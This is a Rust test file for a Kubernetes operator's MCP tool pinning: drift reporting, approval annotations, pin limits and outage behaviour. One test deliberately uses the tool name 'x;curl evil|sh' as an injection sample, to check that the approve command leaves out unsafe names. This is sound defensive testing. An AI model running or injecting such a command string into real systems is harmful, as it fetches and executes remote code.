//! Tool pinning from the replicas' reports to status and back into the plan.

use agentkube_plan::{ToolDigest, UnpinnedTool};

use super::*;

const PLAN: &str = "/api/v1/namespaces/team-a/configmaps/github-tools-mcp";

struct Pinned {
    api: FakeApi,
    replica: Replica,
    port: u16,
    _tasks: JoinSet<()>,
}

impl Pinned {
    async fn new(mode: &str) -> Self {
        let mut tasks = JoinSet::new();
        let (replica, port) = Replica::start(&mut tasks).await;
        let api = FakeApi::default();
        let mut mcp = testing::mcp();
        mcp["spec"]["toolPinning"] = mode.into();
        api.put(MCP, mcp);
        let pod = json!({
            "metadata": {
                "name": "github-tools-mcp-0", "namespace": "team-a",
                "labels": {
                    "app.kubernetes.io/managed-by": "agentkube",
                    "agentkube.io/mcp": "github-tools",
                },
            },
            "status": {
                "podIP": "127.0.0.1", "conditions": [{ "type": "Ready", "status": "True" }],
            },
        });
        api.put("/api/v1/namespaces/team-a/pods/github-tools-mcp-0", pod);
        let pinned = Self {
            api,
            replica,
            port,
            _tasks: tasks,
        };
        pinned.look().await;
        pinned
    }

    /// One look by an operator that has just started.
    async fn look(&self) {
        Fresh::on(&self.api, self.port).await.mcp().await;
    }

    async fn sees(&self, tools: &[(&str, &str)]) {
        let plan = self.api.get(PLAN).unwrap();
        let plan = plan["data"]["plan.json"].as_str().unwrap();
        self.replica.serves(&PlanDigest::of(plan.as_bytes()), None);
        let tools = tools.iter();
        let unpinned = tools.map(|(tool, text)| UnpinnedTool {
            tool: (*tool).to_owned(),
            name: None,
            digest: ToolDigest::of(text),
        });
        let unpinned = unpinned.collect();
        if let Some(report) = &mut *self.replica.0.lock().unwrap() {
            report.upstreams[0].name = "github".to_owned();
            report.upstreams[0].tools = Some(1);
            report.upstreams[0].unpinned = unpinned;
        }
        self.look().await;
    }

    fn status(&self) -> Value {
        self.api.get(MCP).unwrap()["status"].clone()
    }

    fn planned(&self) -> Value {
        let plan = self.api.get(PLAN).unwrap();
        let plan: Value =
            serde_json::from_str(plan["data"]["plan.json"].as_str().unwrap()).unwrap();
        plan["upstreams"][0]["pins"].clone()
    }

    fn message(&self) -> String {
        let status = self.status();
        let conditions = status["conditions"].as_array().unwrap();
        let found = conditions.iter().find(|it| it["type"] == "ToolsPinned");
        let found = found.map(|it| it["message"].as_str().unwrap().to_owned());
        found.unwrap_or_default()
    }

    fn annotate(&self, text: &str) {
        let mut mcp = self.api.get(MCP).unwrap();
        mcp["metadata"]["annotations"]["agentkube.io/approve-tools"] = text.into();
        self.api.put(MCP, mcp);
    }
}

#[tokio::test]
async fn the_first_sight_is_pinned_in_status_and_planned_from_there() {
    let pinned = Pinned::new("block").await;
    assert_eq!(pinned.planned(), json!([{ "mode": "block", "tools": {} }]));
    assert_eq!(
        pinned.message(),
        "",
        "nothing is said before anything was seen"
    );
    pinned.sees(&[("create_issue", "1")]).await;
    let digest = ToolDigest::of("1").to_string();
    let pins = json!([{ "tool": "create_issue", "digest": digest }]);
    assert_eq!(pinned.status()["upstreams"][0]["pins"], pins);
    // The plan is made from status, by whichever operator looks next.
    pinned.look().await;
    let tools = json!({ "create_issue": digest });
    assert_eq!(
        pinned.planned(),
        json!([{ "mode": "block", "seen": true, "tools": tools }])
    );
    let told = condition(&pinned.api, MCP, "ToolsPinned");
    assert_eq!(told, ("True".to_owned(), "Pinned".to_owned()));
}

#[tokio::test]
async fn a_drift_is_told_with_the_command_that_approves_it() {
    for (mode, fate) in [("block", "blocked"), ("warn", "still served")] {
        let pinned = Pinned::new(mode).await;
        pinned.sees(&[("create_issue", "1")]).await;
        pinned
            .sees(&[("create_issue", "2"), ("list_issues", "1")])
            .await;
        let status = pinned.status();
        assert_eq!(status["drifted"], 2);
        let drifted = &status["upstreams"][0]["drifted"];
        assert_eq!(drifted[0]["name"], "create_issue");
        assert_eq!(drifted[0]["change"], "changed");
        assert_eq!(drifted[1]["change"], "new");
        assert_eq!(
            pinned.message(),
            format!(
                "not as pinned, and {fate}: create_issue (github changed), list_issues (github new); \
                 to approve: agentkube tools approve team-a/github-tools create_issue list_issues"
            )
        );
        let events = pinned.api.writes();
        let posts = events.iter().filter(|it| it.contains("/events"));
        assert!(posts.count() > 0, "{events:?}");
    }
}

#[tokio::test]
async fn a_name_that_is_no_plain_word_is_not_in_the_command() {
    let pinned = Pinned::new("block").await;
    pinned.sees(&[("create_issue", "1")]).await;
    pinned
        .sees(&[("--all", "1"), ("x;curl evil|sh", "2")])
        .await;
    let message = pinned.message();
    let (told, command) = message.split_once("; to approve: ").unwrap();
    assert!(
        told.contains(r#""--all" (github new), "x;curl evil|sh" (github new)"#),
        "{told}"
    );
    let digests = ["1", "2"].map(|text| ToolDigest::of(text).to_string());
    let wanted = format!(
        "agentkube tools approve team-a/github-tools {}",
        digests.join(" ")
    );
    assert_eq!(command, wanted);
}

#[tokio::test]
async fn the_annotation_approves_once() {
    let pinned = Pinned::new("block").await;
    pinned.sees(&[("create_issue", "1")]).await;
    pinned.sees(&[("create_issue", "2")]).await;
    pinned.annotate("create_issue");
    pinned.sees(&[("create_issue", "2")]).await;
    assert_eq!(pinned.status()["drifted"], 0);
    assert_eq!(pinned.status()["approvedTools"], json!(["create_issue"]));
    pinned.sees(&[("create_issue", "3")]).await;
    assert_eq!(pinned.status()["drifted"], 1);
}

#[tokio::test]
async fn a_look_at_an_old_object_undoes_no_approval() {
    let pinned = Pinned::new("block").await;
    pinned.sees(&[("create_issue", "1")]).await;
    let old = Fresh::on(&pinned.api, pinned.port).await;
    pinned.annotate("create_issue");
    pinned.sees(&[("create_issue", "2")]).await;
    let approved = pinned.status()["upstreams"][0]["pins"].clone();
    assert_eq!(approved[0]["digest"], ToolDigest::of("2").to_string());
    // No replica answers: what it knows of pins is what it has always known.
    *pinned.replica.0.lock().unwrap() = None;
    old.mcp().await;
    assert_eq!(pinned.status()["upstreams"][0]["pins"], approved);
}

#[tokio::test]
async fn what_finds_no_room_is_blocked_and_said() {
    let pinned = Pinned::new("block").await;
    let many: Vec<String> = (0..=agentkube_plan::MAX_PINS)
        .map(|at| format!("t{at:05}"))
        .collect();
    let tools: Vec<_> = many.iter().map(|name| (name.as_str(), "1")).collect();
    pinned.sees(&tools).await;
    assert_eq!(pinned.status()["drifted"], 1);
    let message = pinned.message();
    assert!(
        message.contains("no room to pin more tools of github"),
        "{message}"
    );
}

#[tokio::test]
async fn pins_outlive_an_outage_and_end_with_pinning() {
    let pinned = Pinned::new("block").await;
    pinned.sees(&[("create_issue", "1")]).await;
    let pins = pinned.status()["upstreams"][0]["pins"].clone();
    *pinned.replica.0.lock().unwrap() = None;
    pinned.look().await;
    assert_eq!(pinned.status()["upstreams"][0]["pins"], pins);
    let mut mcp = pinned.api.get(MCP).unwrap();
    mcp["spec"]["toolPinning"] = "disabled".into();
    pinned.api.put(MCP, mcp);
    pinned.look().await;
    assert!(pinned.status()["upstreams"][0].get("pins").is_none());
    assert!(pinned.planned().is_null());
}
